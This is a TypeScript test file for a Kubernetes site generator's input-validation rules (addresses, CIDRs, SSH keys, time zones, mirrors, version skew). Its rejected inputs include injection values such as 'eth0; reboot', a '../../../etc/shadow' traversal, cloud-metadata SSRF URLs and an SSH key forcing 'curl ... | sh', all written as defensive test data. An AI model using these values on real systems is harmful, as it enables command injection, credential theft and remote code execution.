import test from 'ava';
import type { BundledRelease, Catalog } from '../../generator/model/index.js';
import { RULES, checkRules, type WrittenSite } from '../../generator/site/index.js';
import { loadDefaultCatalog, TODAY } from '../helpers.js';
import { lab1 } from '../sites.js';

let catalog: Catalog;
test.before(async () => {
  catalog = await loadDefaultCatalog();
});

/** Public keys made with ssh-keygen for these tests (no private half exists anywhere). */
const ED25519 = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIP2CZbC4Nz6tGjrc0SySpzV45OvlYUm5FaslabzRehST alice@laptop';
const ECDSA =
  'ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBHoy53hqOzUb6GrSacUe6Y9GGvU5D+zXYrZPMA8YBrPmsRvgKsyHf4vqu7pLmoDB+OWDTocAwnoZF+zQ0VJjs4s= ops key';
const RSA =
  'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC9fZYcYeECxla59gdLYf18ftiBRqpQWp/lzNzKEowYs3jVEkLsbKx/7+4pb5vuvAziS6LEbs+IEQFMxfEaiDsunTMtTH+giFWJvTAhL81+Ic3vQ3Dyf/Q0G7jGbMolBK38FHFVV6YvaR0YD7irgug3qRHIknzB9oMH6ptBMfWlF9LvZYNsb0Ncs6hamwOvqNcmISkQ6+Qne0TG7jqsBbPBnVA5v8KMEL672WRXrABrTaakTb6OPRT3oU1QcKe330eXXAH6ZorK57jo2sXI1JsdiN/ZdKekK6HPrMZ18kGKb7I90L3GWwsXNOmlh1L1WNlCRLGyz7d3CIlPPxf6WNvT';
const ED25519_BODY = ED25519.split(' ')[1]!;

type Case = {
  mutate: (s: WrittenSite) => void;
  path: string;
  severity?: 'error' | 'warning';
  catalog?: (c: Catalog) => Catalog;
  /** The release the site's state records (the version-skew rules start from it). */
  previous?: string;
};
/** A catalog release as a bundle records it in the site state. */
const recorded = (c: Catalog, version: string): BundledRelease => {
  const r = c.releases.find((x) => x.version === version);
  if (!r) throw new Error(`no ${version} in the catalog`);
  return { kubernetes: r.version, versions: r.versions };
};
const withContainerd = (version: string, containerd: string) => (c: Catalog) => ({
  ...c,
  releases: c.releases.map((r) => (r.version === version ? { ...r, versions: { ...r.versions, containerd } } : r)),
});
const node = (s: WrittenSite, i: number) => s.spec.nodes[i]!;

/** One violating change per rule, and the path the issue must name. */
const CASES: Record<string, Case[]> = {
  'node-name-dns1123': [{ mutate: (s) => (node(s, 1).name = 'Node_2'), path: 'spec.nodes[1].name' }],
  'node-name-unique': [{ mutate: (s) => (node(s, 2).name = 'k8s-01'), path: 'spec.nodes[2].name' }],
  'node-address-valid': [
    { mutate: (s) => (node(s, 2).address = '10.77.0.300/24'), path: 'spec.nodes[2].address' },
    { mutate: (s) => (node(s, 0).address = '192.168.93.255/24'), path: 'spec.nodes[0].address' },
    { mutate: (s) => (node(s, 0).address = '192.168.93.45/31'), path: 'spec.nodes[0].address' },
    ...['127.0.0.5/8', '0.1.2.3/24', '169.254.3.4/16', '224.1.2.3/24', '239.255.255.250/24', '240.0.0.5/24', '254.1.2.3/16'].map((address) => ({
      mutate: (s: WrittenSite) => (node(s, 0).address = address),
      path: 'spec.nodes[0].address',
    })),
  ],
  'mac-unicast': ['ff:ff:ff:ff:ff:ff', '01:00:5e:00:00:fb', '33:33:00:00:00:01', '00:00:00:00:00:00'].map((mac) => ({
    mutate: (s: WrittenSite) => (node(s, 1).mac = mac),
    path: 'spec.nodes[1].mac',
  })),
  'node-roles-unique': [{ mutate: (s) => (node(s, 1).roles = ['worker', 'etcd', 'worker']), path: 'spec.nodes[1].roles[2]' }],
  'node-address-unique': [{ mutate: (s) => (node(s, 1).address = '192.168.93.45/24'), path: 'spec.nodes[1].address' }],
  'gateway-in-subnet': [
    { mutate: (s) => (node(s, 1).gateway = '10.0.0.1'), path: 'spec.nodes[1].gateway' },
    { mutate: (s) => (node(s, 1).gateway = '192.168.93.46'), path: 'spec.nodes[1].gateway' },
    { mutate: (s) => (node(s, 1).gateway = 'router'), path: 'spec.nodes[1].gateway' },
  ],
  'dns-servers-valid': [
    { mutate: (s) => (node(s, 0).dns = ['192.168.93.1', 'ns.local']), path: 'spec.nodes[0].dns[1]' },
    ...['0.0.0.0', '255.255.255.255', '224.0.0.251'].map((d) => ({
      mutate: (s: WrittenSite) => (node(s, 0).dns = ['192.168.93.1', d]),
      path: 'spec.nodes[0].dns[1]',
    })),
  ],
  'mac-unique': [{ mutate: (s) => (node(s, 2).mac = '52:54:00:93:00:45'), path: 'spec.nodes[2].mac' }],
  'cluster-cidrs-valid': [
    { mutate: (s) => (s.spec.kubernetes.serviceCIDR = '10.254.0.1/16'), path: 'spec.kubernetes.serviceCIDR' },
    { mutate: (s) => (s.spec.kubernetes.serviceCIDR = '10.0.0.0/8'), path: 'spec.kubernetes.serviceCIDR' },
    { mutate: (s) => (s.spec.kubernetes.podCIDR = 'pods'), path: 'spec.kubernetes.podCIDR' },
  ],
  'cidrs-disjoint': [
    { mutate: (s) => (s.spec.kubernetes.podCIDR = '10.254.128.0/17'), path: 'spec.kubernetes.podCIDR' },
    { mutate: (s) => (s.spec.kubernetes.serviceCIDR = '192.168.0.0/16'), path: 'spec.nodes[0].address' },
  ],
  'cluster-dns-in-service-cidr': [
    { mutate: (s) => (s.spec.kubernetes.clusterDNS = '10.0.0.10'), path: 'spec.kubernetes.clusterDNS' },
    { mutate: (s) => (s.spec.kubernetes.clusterDNS = '10.254.0.1'), path: 'spec.kubernetes.clusterDNS' },
  ],
  'node-port-range': [{ mutate: (s) => (s.spec.kubernetes.nodePortRange = '30000'), path: 'spec.kubernetes.nodePortRange' }],
  'control-plane-present': [{ mutate: (s) => s.spec.nodes.forEach((n) => (n.roles = ['etcd', 'worker'])), path: 'spec.nodes' }],
  'etcd-present': [{ mutate: (s) => s.spec.nodes.forEach((n) => (n.roles = ['control-plane', 'worker'])), path: 'spec.nodes' }],
  'etcd-topology-valid': [
    { mutate: (s) => (s.spec.kubernetes.etcdTopology = 'stacked'), path: 'spec.kubernetes.etcdTopology' },
    { mutate: (s) => Object.assign(s.spec.kubernetes, { mode: 'kubeadm' }) && (node(s, 2).roles = ['control-plane', 'worker']), path: 'spec.nodes[2].roles' },
  ],
  'etcd-count-odd': [{ mutate: (s) => (node(s, 2).roles = ['worker']), path: 'spec.nodes', severity: 'warning' }],
  'vip-valid': [
    { mutate: (s) => (s.spec.controlPlane.loadBalancer = 'vip'), path: 'spec.controlPlane' },
    { mutate: (s) => Object.assign(s.spec.controlPlane, { loadBalancer: 'vip', vip: '10.9.9.9' }), path: 'spec.controlPlane.vip' },
    { mutate: (s) => Object.assign(s.spec.controlPlane, { loadBalancer: 'vip', vip: '192.168.93.47' }), path: 'spec.controlPlane.vip' },
    { mutate: (s) => (s.spec.controlPlane.vip = '192.168.93.40'), path: 'spec.controlPlane.vip', severity: 'warning' },
    { mutate: (s) => Object.assign(s.spec.controlPlane, { loadBalancer: 'vip', vip: '192.168.93.40' }), path: 'spec.network' },
  ],
  'version-in-catalog': [{ mutate: (s) => (s.spec.kubernetes.version = 'v1.99.0'), path: 'spec.kubernetes.version' }],
  'arch-supported': [
    { mutate: (s) => Object.assign(s.spec.kubernetes, { version: 'v1.20.2' }) && (s.spec.artifacts.arch = ['amd64', 'arm64']), path: 'spec.artifacts.arch[1]' },
    { mutate: (s) => (node(s, 0).arch = 'arm64'), path: 'spec.nodes[0].arch' },
  ],
  'addons-in-catalog': [],
  'sources-known': [
    { mutate: (s) => (s.spec.artifacts.sources = { kubernets: 'http://mirror.local' }), path: 'spec.artifacts.sources.kubernets' },
    { mutate: (s) => (s.spec.artifacts.sources = { kubernetes: 'mirror.local' }), path: 'spec.artifacts.sources.kubernetes' },
    ...[
      'file:///etc/kubernetes',
      'gopher://mirror.local/',
      'http://user:secret@mirror.local/k8s',
      'http://169.254.169.254/latest/meta-data/',
      'http://[fe80::1]/',
      'http://metadata.google.internal/',
    ].map((url) => ({
      mutate: (s: WrittenSite) => (s.spec.artifacts.sources = { kubernetes: url }),
      path: 'spec.artifacts.sources.kubernetes',
    })),
  ],
  'registry-mirrors-valid': [
    { mutate: (s) => (s.spec.artifacts.registryMirrors = { 'registry.k8s.io': 'ftp://x' }), path: 'spec.artifacts.registryMirrors.registry.k8s.io' },
    {
      mutate: (s) => (s.spec.artifacts.registryMirrors = { 'registry.k8s.io': 'https://robot:token@registry.local' }),
      path: 'spec.artifacts.registryMirrors.registry.k8s.io',
    },
  ],
  'node-registry-mirrors-valid': [
    {
      mutate: (s) => (s.spec.containerRuntime = { registryMirrors: { 'docker.io': ['registry.local:5000'] } }),
      path: 'spec.containerRuntime.registryMirrors.docker.io[0]',
    },
    {
      mutate: (s) => (s.spec.containerRuntime = { registryMirrors: { 'Docker Hub': ['https://registry.local:5000'] } }),
      path: 'spec.containerRuntime.registryMirrors.Docker Hub',
    },
  ],
  'durations-parse': [
    { mutate: (s) => (s.spec.pki.caValidity = '10y'), path: 'spec.pki.caValidity' },
    { mutate: (s) => (s.spec.pki.certValidity = '0h'), path: 'spec.pki.certValidity' },
    { mutate: (s) => (s.spec.pki.certValidity = '99999h'), path: 'spec.pki.certValidity' },
  ],
  'pod-cidr-fits-nodes': [
    { mutate: (s) => Object.assign(s.spec.network, { plugin: 'bridge' }) && (s.spec.kubernetes.podCIDR = '172.30.0.0/23'), path: 'spec.kubernetes.podCIDR' },
    // The controller-manager's /24 node mask: three nodes, one range.
    { mutate: (s) => (s.spec.kubernetes.podCIDR = '172.30.0.0/24'), path: 'spec.kubernetes.podCIDR' },
    { mutate: (s) => Object.assign(s.spec.network, { plugin: 'calico' }) && (s.spec.kubernetes.podCIDR = '172.30.0.0/23'), path: 'spec.kubernetes.podCIDR' },
    { mutate: (s) => Object.assign(s.spec.kubernetes, { mode: 'kubeadm', podCIDR: '172.30.0.0/23' }), path: 'spec.kubernetes.podCIDR' },
  ],
  'cluster-domain-valid': ['-bad..domain-', 'Cluster.Local', 'cluster.local.', 'a b', 'cluster.local\nx', ''].map((d) => ({
    mutate: (s: WrittenSite) => (s.spec.kubernetes.clusterDomain = d),
    path: 'spec.kubernetes.clusterDomain',
  })),
  'interface-name-valid': ['eth0; reboot', 'a-very-long-interface', '..', 'eth0/1'].map((name) => ({
    mutate: (s: WrittenSite) => (s.spec.network.interface = name),
    path: 'spec.network.interface',
  })),
  'ntp-servers-valid': ['10.0.0.1 iburst\nallow all', '127.0.0.1', '224.0.1.1', 'ntp..site', '-ntp.site', 'ntp.site iburst', '10.0.0'].map((server) => ({
    mutate: (s: WrittenSite) => (s.spec.os.ntpServers = ['192.168.93.1', server]),
    path: 'spec.os.ntpServers[1]',
  })),
  'timezone-valid': ['../../../etc/shadow', '/etc/localtime', 'europe/berlin', 'utc', 'Mars/Olympus_Mons', 'UTC\nreboot', ''].map((tz) => ({
    mutate: (s: WrittenSite) => (s.spec.os.timezone = tz),
    path: 'spec.os.timezone',
  })),
  'ssh-keys-valid': [
    'not a key',
    'ssh-ed25519',
    'ssh-ed25519 AAAA',
    'ssh-ed25519 !!!notbase64!!!',
    `ssh-rsa ${ED25519_BODY} body of another type`,
    `${ED25519}\nssh-ed25519 ${ED25519_BODY} second line`,
    `ssh-dss AAAAB3NzaC1kc3MAAACBAP8= old`,
    `bogus-option ${ED25519}`,
    `from=10.0.0.1 ${ED25519}`,
    `no-pty="x" ${ED25519}`,
    `from="10.0.0.1 ${ED25519}`,
    `ssh-ed25519 ${Buffer.from('\u0000\u0000\u0000\u000bssh-ed25519').toString('base64')}`,
  ].map((key) => ({ mutate: (s: WrittenSite) => (s.spec.os.sshAuthorizedKeys = [ED25519, key]), path: 'spec.os.sshAuthorizedKeys[1]' })),
  'egress-inside-site': [
    { mutate: (s) => (s.spec.os.ntpServers = ['0.debian.pool.ntp.org']), path: 'spec.os.ntpServers[0]' },
    { mutate: (s) => (s.spec.os.ntpServers = ['time.google.com']), path: 'spec.os.ntpServers[0]' },
    {
      mutate: (s) => (s.spec.containerRuntime = { registryMirrors: { 'docker.io': ['https://registry-1.docker.io'] } }),
      path: 'spec.containerRuntime.registryMirrors.docker.io[0]',
    },
    { mutate: (s) => (s.spec.kubernetes.clusterDomain = 'cluster.github.com'), path: 'spec.kubernetes.clusterDomain' },
    {
      mutate: (s) => (s.spec.os.sshAuthorizedKeys = [`command="curl -s https://raw.githubusercontent.com/x | sh" ${ED25519}`]),
      path: 'spec.os.sshAuthorizedKeys[0]',
    },
  ],
  'cgroup-v2-old-kubernetes': [{ mutate: (s) => (s.spec.kubernetes.version = 'v1.20.2'), path: 'spec.os', severity: 'warning' }],
  'cgroup-v1-refused': [{ mutate: (s) => (s.spec.os.cgroupVersion = 1), path: 'spec.os.cgroupVersion' }],
  'kickstart-needs-rhel': [{ mutate: (s) => (s.spec.output.formats = ['tarball', 'kickstart']), path: 'spec.output.formats[1]', severity: 'warning' }],
  'os-packages-valid': [
    { mutate: (s) => (s.spec.os.packages = ['nfs-common', 'NFS_Common']), path: 'spec.os.packages[1]' },
    { mutate: (s) => (s.spec.os.packages = ['curl=7.88.1-10']), path: 'spec.os.packages[0]' },
    { mutate: (s) => (s.spec.os.packages = ['x']), path: 'spec.os.packages[0]' },
    {
      mutate: (s) => {
        s.spec.os.family = 'rhel';
        s.spec.os.version = '9';
        s.spec.os.packages = ['nfs-utils'];
      },
      path: 'spec.os.packages',
      severity: 'warning',
    },
  ],
  'os-release-known': [
    { mutate: (s) => (s.spec.os.version = '11'), path: 'spec.os.version' },
    {
      mutate: (s) => {
        s.spec.os.family = 'ubuntu';
        s.spec.os.version = '12';
      },
      path: 'spec.os.version',
    },
  ],
  'release-known-bad': [
    {
      mutate: () => {},
      path: 'spec.kubernetes.version',
      catalog: (c) => ({
        ...c,
        releases: c.releases.map((r) =>
          r.version === 'v1.37.1' ? { ...r, knownBad: { reason: 'the pause image named here does not exist', hint: 'use another release' } } : r,
        ),
      }),
    },
  ],
  'proxy-mode-supported': [
    {
      mutate: (s) => {
        s.spec.kubernetes.version = 'v1.20.2';
        s.spec.kubernetes.proxyMode = 'nftables';
      },
      path: 'spec.kubernetes.proxyMode',
    },
    { mutate: (s) => (s.spec.kubernetes.proxyMode = 'ipvs'), path: 'spec.kubernetes.proxyMode', severity: 'warning' },
  ],
  'registry-mirrors-ignored': [
    {
      mutate: (s) => {
        s.spec.kubernetes.version = 'v1.20.2';
        s.spec.containerRuntime.registryMirrors = { 'docker.io': ['https://registry.site.internal:5000'] };
      },
      path: 'spec.containerRuntime.registryMirrors',
      severity: 'warning',
    },
  ],
  'containerd-glibc': [
    {
      mutate: (s) => (s.spec.os.family = 'rhel'),
      path: 'spec.os.family',
      severity: 'warning',
      catalog: (c) => ({
        ...c,
        releases: c.releases.map((r) =>
          r.version === 'v1.37.1' ? { ...r, versions: Object.fromEntries(Object.entries(r.versions).filter(([k]) => k !== 'containerd-static')) } : r,
        ),
      }),
    },
  ],
  'addon-retired': [
    { mutate: (s) => (s.spec.addons = ['coredns', 'dashboard']), path: 'spec.addons[1]', severity: 'warning' },
    { mutate: (s) => (s.spec.addons = ['ingress-nginx']), path: 'spec.addons[0]', severity: 'warning' },
  ],
  'release-end-of-life': [{ mutate: (s) => (s.spec.kubernetes.version = 'v1.34.2'), path: 'spec.kubernetes.version', severity: 'warning' }],
  // Version skew, between the real releases of the catalog: lab1 is v1.37.1.
  'upgrade-no-downgrade': [{ mutate: (s) => (s.spec.kubernetes.version = 'v1.36.4'), previous: 'v1.37.1', path: 'spec.kubernetes.version' }],
  'upgrade-control-plane-one-minor': [{ mutate: () => {}, previous: 'v1.35.9', path: 'spec.kubernetes.version' }],
  'upgrade-kubelet-skew': [
    { mutate: (s) => (s.spec.kubernetes.version = 'v1.34.2'), previous: 'v1.20.2', path: 'spec.kubernetes.version' },
    { mutate: (s) => (s.spec.kubernetes.version = 'v1.36.4'), previous: 'v1.37.1', path: 'spec.kubernetes.version' },
  ],
  'upgrade-kube-proxy-skew': [
    { mutate: (s) => (s.spec.kubernetes.version = 'v1.34.2'), previous: 'v1.20.2', path: 'spec.kubernetes.version' },
    {
      mutate: (s) => ((s.spec.kubernetes.version = 'v1.34.2'), (s.spec.kubernetes.mode = 'kubeadm')),
      previous: 'v1.20.2',
      path: 'spec.kubernetes.version',
    },
    { mutate: (s) => (s.spec.kubernetes.version = 'v1.36.4'), previous: 'v1.37.1', path: 'spec.kubernetes.version' },
  ],
  'upgrade-etcd-one-minor': [
    // 3.5.25 -> 3.6.14: one minor, but 3.6 wants every member on 3.5.26 first.
    { mutate: (s) => (s.spec.kubernetes.version = 'v1.35.9'), previous: 'v1.34.2', path: 'spec.kubernetes.version' },
    // 3.4.13 -> 3.6.14: skips 3.5.
    { mutate: (s) => (s.spec.kubernetes.version = 'v1.35.9'), previous: 'v1.20.2', path: 'spec.kubernetes.version' },
  ],
  'containerd-minimum': [
    { mutate: () => {}, catalog: withContainerd('v1.37.1', '1.7.28'), path: 'spec.kubernetes.version' },
    { mutate: (s) => (s.spec.kubernetes.version = 'v1.34.2'), catalog: withContainerd('v1.34.2', '1.6.14'), path: 'spec.kubernetes.version' },
  ],
};

test('lab1 breaks no rule', (t) => {
  t.deepEqual(checkRules({ site: lab1(), catalog, today: TODAY }), []);
});

test('what the input rules accept: real keys with options and comments, tz names, host names, unicast addresses', (t) => {
  const site = lab1();
  site.spec.os.sshAuthorizedKeys = [
    ED25519,
    ECDSA,
    RSA,
    `from="10.0.0.0/8,192.168.93.*",no-pty,command="/usr/bin/uptime" ${ED25519}`,
    `restrict,pty ${ECDSA}`,
    `${ED25519} alice@github.com at work`,
  ];
  site.spec.os.ntpServers = ['192.168.93.1', 'ntp.site.internal', 'NTP1.Site.Internal'];
  site.spec.kubernetes.clusterDomain = 'k8s.site-1.internal';
  site.spec.network.interface = 'enp1s0.100';
  node(site, 0).mac = '02:00:00:00:00:01';
  node(site, 0).dns = ['192.168.93.1', '127.0.0.53', '169.254.169.253'];
  for (const tz of ['UTC', 'Etc/UTC', 'Europe/Berlin', 'America/Port-au-Prince', 'America/Argentina/Buenos_Aires', 'Asia/Kolkata', 'Etc/GMT+5']) {
    site.spec.os.timezone = tz;
    t.deepEqual(checkRules({ site, catalog, today: TODAY }), [], tz);
  }
  node(site, 1).address = '10.1.2.3/8';
  node(site, 1).gateway = '10.0.0.1';
  t.deepEqual(
    checkRules({ site, catalog, today: TODAY }).filter((i) => i.rule === 'node-address-valid'),
    [],
  );
});

test('no issue message repeats a password from a URL', (t) => {
  const site = lab1();
  site.spec.artifacts.sources = { kubernetes: 'http://user:hunter2@mirror.local/k8s' };
  site.spec.artifacts.registryMirrors = { 'registry.k8s.io': 'https://robot:hunter2@registry.local' };
  site.spec.containerRuntime = { registryMirrors: { 'docker.io': ['https://robot:hunter2@registry.local'] } };
  const issues = checkRules({ site, catalog, today: TODAY });
  t.is(issues.length, 3);
  t.false(JSON.stringify(issues).includes('hunter2'));
});

test('every rule has a name, a summary and a test case here', (t) => {
  const names = RULES.map((r) => r.name);
  t.is(new Set(names).size, names.length, 'rule names are unique');
  for (const r of RULES) {
    t.true(r.summary.length > 10, r.name);
    t.true(r.name in CASES, `no test case for rule ${r.name}`);
  }
  t.deepEqual(Object.keys(CASES).sort(), [...names].sort());
});

for (const [rule, cases] of Object.entries(CASES)) {
  cases.forEach((c, i) => {
    test(`rule ${rule} #${i + 1} reports ${c.path}`, (t) => {
      const site = lab1();
      c.mutate(site);
      const cat = c.catalog ? c.catalog(catalog) : catalog;
      const previous = c.previous ? recorded(cat, c.previous) : null;
      const issues = checkRules({ site, catalog: cat, today: TODAY, previous }).filter((x) => x.rule === rule);
      t.true(issues.length > 0, `rule ${rule} did not fire`);
      const hit = issues.find((x) => x.path === c.path);
      t.truthy(hit, `expected ${c.path}, got ${issues.map((x) => x.path).join(', ')}`);
      t.is(hit!.severity, c.severity ?? 'error');
      t.true(hit!.message.length > 0);
      if (rule.startsWith('upgrade-') || rule === 'containerd-minimum') t.true((hit!.hint ?? '').length > 0, 'a skew issue says what to do');
    });
  });
}

test('rule addons-in-catalog reports an add-on whose images the catalog lacks', (t) => {
  const site = lab1();
  site.spec.addons = ['coredns', 'dashboard'];
  site.spec.network.plugin = 'calico';
  const stripped: Catalog = {
    ...catalog,
    releases: catalog.releases.map((r) => ({
      ...r,
      images: r.images.filter((im) => !im.when.addon?.startsWith('dash') && im.when.addon !== 'headlamp' && !im.when.network),
    })),
  };
  const issues = checkRules({ site, catalog: stripped, today: TODAY }).filter((x) => x.rule === 'addons-in-catalog');
  t.deepEqual(issues.map((x) => x.path).sort(), ['spec.addons[1]', 'spec.network.plugin']);
  site.spec.network.plugin = 'bridge';
  t.deepEqual(
    checkRules({ site, catalog: stripped, today: TODAY })
      .filter((x) => x.rule === 'addons-in-catalog')
      .map((x) => x.path),
    ['spec.addons[1]'],
  );
});

test('an even etcd count is only a warning; an odd one is silent', (t) => {
  const site = lab1();
  t.false(checkRules({ site, catalog, today: TODAY }).some((x) => x.rule === 'etcd-count-odd'));
  node(site, 2).roles = ['worker'];
  const issues = checkRules({ site, catalog, today: TODAY });
  t.true(issues.every((x) => x.severity === 'warning'));
});

test('old Kubernetes on a host booted with cgroup v1 is not warned about', (t) => {
  const site = lab1();
  site.spec.kubernetes.version = 'v1.20.2';
  site.spec.os.cgroupVersion = 1;
  t.false(checkRules({ site, catalog, today: TODAY }).some((x) => x.rule === 'cgroup-v2-old-kubernetes'));
});

test('a node subnet overlapping another node subnet is reported once, at the later node', (t) => {
  const site = lab1();
  node(site, 1).address = '10.1.0.5/16';
  node(site, 1).gateway = '10.1.0.1';
  node(site, 2).address = '10.1.2.7/24';
  node(site, 2).gateway = '10.1.2.1';
  const issues = checkRules({ site, catalog, today: TODAY }).filter((x) => x.rule === 'cidrs-disjoint');
  t.deepEqual(
    issues.map((x) => x.path),
    ['spec.nodes[2].address'],
  );
});

test('end of life: silent beyond 60 days, a countdown within them, past it a warning naming the newest supported minor', (t) => {
  const site = lab1();
  const eol = (today: string) => checkRules({ site, catalog, today: new Date(today) }).filter((x) => x.rule === 'release-end-of-life');
  t.deepEqual(eol('2026-11-28T12:00:00Z'), [], 'lab1 (1.37, end of life 2027-10-28) is not warned about today');
  t.deepEqual(eol('2027-08-28T00:00:00Z'), [], '61 days ahead: silent');
  const soon = eol('2027-08-29T23:00:00Z');
  t.is(soon.length, 1);
  t.regex(soon[0]!.message, /1\.37 reaches its end of life on 2027-10-28, in 60 days/);
  const past = eol('2027-10-29T00:00:00Z');
  t.regex(past[0]!.message, /reached its end of life on 2027-10-28/);
  t.regex(past[0]!.hint!, /no supported release/, 'once every minor of the catalog has ended, the hint says so');

  site.spec.kubernetes.version = 'v1.34.2';
  const old = eol('2026-11-28T12:00:00Z');
  t.is(old[0]!.severity, 'warning');
  t.regex(old[0]!.message, /Kubernetes 1\.34 reached its end of life on 2026-10-27/);
  t.regex(old[0]!.hint!, /newest supported minor is 1\.37 \(v1\.37\.1 in this catalog\); upgrade one minor at a time: v1\.35\.9 first/);
  site.spec.kubernetes.version = 'v1.20.2';
  t.regex(eol('2026-11-28T12:00:00Z')[0]!.hint!, /1\.21 next, which this catalog does not hold/);
});

test('a known-bad release is an error whatever the date; a release of a minor without lifecycle data is not warned about', (t) => {
  const site = lab1();
  const bad: Catalog = { ...catalog, releases: catalog.releases.map((r) => (r.version === 'v1.37.1' ? { ...r, knownBad: { reason: 'r', hint: 'h' } } : r)) };
  const issues = checkRules({ site, catalog: bad, today: TODAY }).filter((x) => x.rule === 'release-known-bad');
  t.deepEqual(
    issues.map((x) => [x.severity, x.hint]),
    [['error', 'h']],
  );
  const noLife: Catalog = { ...catalog, lifecycle: {} };
  site.spec.kubernetes.version = 'v1.34.2';
  t.deepEqual(
    checkRules({ site, catalog: noLife, today: TODAY }).filter((x) => x.rule === 'release-end-of-life'),
    [],
  );
});

test('dashboard: kept where the release still carries it, headlamp in its place where it does not; a warning either way', (t) => {
  const site = lab1();
  site.spec.addons = ['coredns', 'dashboard'];
  const now = checkRules({ site, catalog, today: TODAY }).filter((x) => x.rule === 'addon-retired' || x.rule === 'addons-in-catalog');
  t.deepEqual(
    now.map((x) => [x.rule, x.severity]),
    [['addon-retired', 'warning']],
  );
  t.regex(now[0]!.message, /archived in January 2026: v1\.37\.1 installs headlamp in its place/);
  site.spec.kubernetes.version = 'v1.34.2';
  const old = checkRules({ site, catalog, today: TODAY }).filter((x) => x.rule === 'addon-retired');
  t.notRegex(old[0]!.message, /in its place/);
});
